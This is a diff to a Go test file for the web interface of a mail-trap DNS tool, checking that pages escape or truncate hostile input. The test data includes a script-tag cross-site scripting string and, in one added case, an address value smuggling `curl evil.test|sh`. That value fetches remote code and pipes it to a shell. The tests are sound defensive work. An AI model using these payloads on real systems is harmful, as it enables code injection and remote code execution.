@@ -17,7 +17,7 @@ type shown struct{}
 const hostile = `"><script>alert(1)</script>`
 
 func (shown) Overview(search string, from, most int) *Overview {
-	o := &Overview{Version: "1.2.3", Since: time.Now().Add(-72 * time.Hour), Zones: 250, Found: 250, DownCount: 1, Down: []string{"down.test"}, Unwell: []string{"mail.test"}, ListedAll: 1, Lists: true, Catches: true}
+	o := &Overview{Version: "1.2.3", Since: time.Now().Add(-72 * time.Hour), Zones: 250, Found: 250, DownCount: 1, Down: []string{"down.test"}, Unwell: []string{"mail.test"}, ListedAll: 1, Lists: true, Catches: true, Counts: true}
 	if search != "" {
 		o.Found = 0
 		return o
@@ -33,7 +33,7 @@ func (shown) Zone(name string) (*Zone, error) {
 	if name != "a.test" {
 		return nil, control.ErrNoZone
 	}
-	return &Zone{Zone: control.Zone{Name: name, Serial: 7, File: hostile, Updates: []control.Updated{{Name: "x.a.test.", Type: "TXT", Records: []string{hostile}}}}, Domains: []Domain{{"a.test", []Exchange{
+	return &Zone{Counts: true, Zone: control.Zone{Name: name, Serial: 7, File: hostile, Updates: []control.Updated{{Name: "x.a.test.", Type: "TXT", Records: []string{hostile}}}}, Domains: []Domain{{"a.test", []Exchange{
 		{Host: "mail.a.test", Preference: 10, Role: "primary", Addresses: []string{"192.0.2.1"}, Health: "not well"}, {Host: "mx1.a.test", Preference: 20, Role: "decoy", Lookups: 3, Sightings: 1},
 	}}}}, nil
 }
@@ -68,6 +68,8 @@ func TestPagesShowWhatTheServerSays(t *testing.T) {
 		{"/zone?zone=a.test", 200, []string{"Mail to a.test", "mx1.a.test", "3 look-ups", "1 sighting", `class="host unwell"`, "Dynamic updates"}},
 		{"/zone?zone=none.test", 404, []string{"no such zone is served"}},
 		{"/client?address=2001:db8::1", 200, []string{"Not listed.", "mxtrap list pardon 2001:db8::1"}},
+		{"/client?address=::ffff:192.0.2.1", 200, []string{"<h1>192.0.2.1</h1>"}},
+		{"/client?address=fe80::1%25%3Bcurl+evil.test%7Csh", 200, []string{"mxtrap list pardon fe80::1<"}},
 		{"/client?address=x", 422, []string{"is not an address"}},
 		{"/style.css", 200, []string{"prefers-color-scheme: dark"}},
 		{"/none", 404, nil},
